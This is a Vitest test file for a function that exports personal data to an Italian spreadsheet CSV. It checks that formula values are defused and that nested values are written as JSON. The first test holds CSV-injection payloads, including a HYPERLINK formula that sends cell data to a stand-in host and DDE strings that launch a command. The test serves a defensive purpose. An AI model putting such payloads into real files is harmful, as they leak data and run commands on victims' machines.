import { describe, expect, it } from 'vitest';
import { CSV_BOM } from '@guida/shared/server/csv';
import { personalDataCsv, type PersonalDataExport } from './personal-data-export';

const exportOf = (data: PersonalDataExport['data']): PersonalDataExport => ({
  generatedAt: '2026-11-24T20:00:00.000Z',
  email: 'mario.rossi@example.it',
  information: {},
  data,
});

describe('personalDataCsv', () => {
  it('defuses every value a spreadsheet would run as a formula', () => {
    const hostile = {
      nome: '=HYPERLINK("http://evil.example/?d="&A1;"Clicca")',
      cognome: '+cmd|\' /C calc\'!A0',
      source: '@SUM(1+1)*cmd|\' /C calc\'!A0',
      utm_source: '-2+3+cmd|\' /C calc\'!A0',
      utm_medium: '\t=1+1',
    };
    const csv = personalDataCsv(exportOf({ ebook_requests: [{ id: 7, ...hostile }] }));
    const cells = csv
      .slice(CSV_BOM.length)
      .trimEnd()
      .split('\r\n')
      .slice(1)
      .map((line) => line.slice(line.indexOf(';', line.indexOf(';') + 1) + 1));
    for (const [field, value] of Object.entries(hostile)) {
      const line = cells.find((cell) => cell.startsWith(`${field};`));
      const written = line!.slice(field.length + 1).replace(/^"(.*)"$/s, '$1').replace(/""/g, '"');
      // Read back as text: the apostrophe a spreadsheet shows as a text marker, then the value.
      expect(written).toBe(`'${value}`);
    }
  });

  it('writes the Italian spreadsheet CSV of the admin exports, nested values as JSON', () => {
    const csv = personalDataCsv(
      exportOf({
        ebook_requests: [{ id: 3, nome: 'Lucia', telefono: '+393471234567', created_at: new Date('2026-11-01T10:00:00Z') }],
        gdpr_data_requests: [{ id: 9, request_data: { details: 'Cognome errato' }, notes: null }],
      }),
    );
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(csv.slice(CSV_BOM.length).split('\r\n')).toEqual([
      'tabella;id;campo;valore',
      'ebook_requests;3;nome;Lucia',
      "ebook_requests;3;telefono;'+393471234567",
      'ebook_requests;3;created_at;2026-11-01T10:00:00.000Z',
      'gdpr_data_requests;9;request_data;"{""details"":""Cognome errato""}"',
      'gdpr_data_requests;9;notes;',
      '',
    ]);
  });
});
